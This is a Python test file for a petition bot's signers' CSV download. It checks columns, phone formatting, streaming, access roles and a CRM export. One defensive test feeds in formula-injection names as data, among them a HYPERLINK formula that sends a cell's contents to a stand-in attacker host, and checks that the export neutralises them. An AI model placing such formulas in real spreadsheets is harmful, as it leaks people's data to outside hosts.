"""The signers' CSV download: the command's columns and language, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from helpers import Phone, log_in
from sqlalchemy import update

from bot.dashboard import exports
from bot.dashboard.exports import spreadsheet_safe
from store.models import Supporter

SLUG = "doj-face-recognition"
PATH = f"/campaigns/{SLUG}/signers.csv"
HEADER = "phone,name,zip,city,state,signed_at,source,opted_out,language"
COMMAND_HEADER = "phone,name,zip,city,state,signed_at,source,opted_out"
JANE = "+14045550123"  # Atlanta
LUIS = "+12125550188"  # New York, signs in Spanish


def sign(phone: Phone, keyword: str, name: str, zip_code: str, yes: str = "YES") -> None:
    phone.text(keyword)
    phone.text(name)
    phone.text(zip_code)
    assert phone.text(yes) == []


@pytest.fixture
def signed(client, twilio, run_jobs) -> None:
    sign(Phone(client, twilio, JANE), "FACES", "Jane Doe", "30303")
    sign(Phone(client, twilio, LUIS), "CARAS", "Luis Ortiz", "10001", yes="SÍ")
    run_jobs()


def download(client) -> tuple[str, list[dict[str, str]]]:
    response = client.get(PATH)
    assert response.status_code == 200, response.get_data(as_text=True)
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff"), "a byte-order mark, so Excel reads UTF-8"
    body = body.removeprefix("\ufeff")
    return body, list(csv.DictReader(io.StringIO(body)))


def test_it_is_a_csv_attachment_named_for_the_campaign(client, svc, signed) -> None:
    log_in(client, svc)
    response = client.get(PATH)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith(
        f'attachment; filename="{SLUG}-signers-'
    )
    assert response.is_streamed


def test_its_header_is_the_commands_then_language(client, svc, signed) -> None:
    log_in(client, svc)
    body, _ = download(client)
    assert body.splitlines()[0] == HEADER
    assert HEADER.startswith(COMMAND_HEADER + ",")


def test_it_has_a_row_per_signer_in_signing_order(client, svc, signed) -> None:
    log_in(client, svc)
    _, rows = download(client)
    assert [(r["name"], r["zip"], r["city"], r["state"], r["language"]) for r in rows] == [
        ("Jane Doe", "30303", "Atlanta", "GA", "en"),
        ("Luis Ortiz", "10001", "New York", "NY", "es"),
    ]
    assert {(r["source"], r["opted_out"]) for r in rows} == {("sms", "no")}
    assert all(r["signed_at"].endswith("Z") for r in rows)


def test_phones_are_written_so_a_spreadsheet_keeps_them_as_text(client, svc, signed) -> None:
    log_in(client, svc)
    _, rows = download(client)
    assert [r["phone"] for r in rows] == ["'" + JANE, "'" + LUIS]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1 SUM(A1:A9)",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_name_a_spreadsheet_would_run_comes_out_neutralised(
    client, svc, signed, name: str
) -> None:
    # The bot refuses such names; an organizer's correction or an import might not.
    with svc.db.begin() as session:
        session.execute(update(Supporter).where(Supporter.phone == JANE).values(name=name))
    log_in(client, svc)
    _, rows = download(client)
    assert rows[0]["name"] == "'" + name


def test_the_command_keeps_raw_values_for_tools(client, svc, signed, runner) -> None:
    with svc.db.begin() as session:
        session.execute(update(Supporter).where(Supporter.phone == JANE).values(name="=1+1"))
    result = runner.invoke(args=["export", SLUG])
    assert result.stdout.splitlines()[0] == COMMAND_HEADER
    first = next(csv.DictReader(io.StringIO(result.stdout)))
    assert (first["phone"], first["name"]) == (JANE, "=1+1")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("Jane Doe", "Jane Doe"),
        ("", ""),
        (None, ""),
        ("O'Brien", "O'Brien"),
        ("José = Ñúñez", "José = Ñúñez"),
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
    ],
)
def test_only_cells_that_start_like_a_formula_are_quoted(cell: str | None, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_it_is_sent_in_chunks_as_it_is_read(client, svc, signed, monkeypatch) -> None:
    monkeypatch.setattr(exports, "ROWS_PER_CHUNK", 1)
    log_in(client, svc)
    response = client.get(PATH)
    chunks = list(response.response)
    assert len(chunks) == 3  # the header with the first row, the second row, the rest
    assert b"Jane Doe" in chunks[0] and b"Luis Ortiz" in chunks[1]
    response.close()


def test_a_campaign_without_signers_downloads_only_the_header(client, svc) -> None:
    log_in(client, svc)
    body, rows = download(client)
    assert body == HEADER + "\r\n"
    assert rows == []


def test_a_field_volunteer_may_not_download_it(client, svc, signed) -> None:
    log_in(client, svc, role="field")
    assert client.get(PATH).status_code == 403


def test_an_unknown_campaign_has_no_download(client, svc) -> None:
    log_in(client, svc)
    assert client.get("/campaigns/no-such-campaign/signers.csv").status_code == 404


def test_the_crm_download_is_raw_with_first_and_last_names_and_zips_as_text(
    client, svc, twilio, run_jobs
) -> None:
    sign(Phone(client, twilio, JANE), "FACES", "Jane Doe", "30303")
    sign(Phone(client, twilio, "+16175550111"), "FACES", "Dr. Ana María López", "02119")
    run_jobs()
    log_in(client, svc)
    response = client.get(f"/campaigns/{SLUG}/signers-crm.csv")
    assert response.status_code == 200
    assert "signers-crm-" in response.headers["Content-Disposition"]
    body = response.get_data().decode("utf-8")
    assert not body.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert list(rows[0]) == [
        "phone", "first_name", "last_name", "zip", "city", "state",
        "signed_at", "source", "opted_out", "language",
    ]  # fmt: skip
    assert [(r["phone"], r["first_name"], r["last_name"], r["zip"]) for r in rows] == [
        (JANE, "Jane", "Doe", "30303"),
        ("+16175550111", "Ana", "María López", "02119"),
    ]
    assert ",02119," in body and "'+" not in body
    # The spreadsheet download is unchanged, and the campaign page offers both.
    assert "'+14045550123" in client.get(PATH).get_data(as_text=True)
    html = client.get(f"/campaigns/{SLUG}").get_data(as_text=True)
    assert "Download for CRM import" in html and "Download signers (CSV)" in html
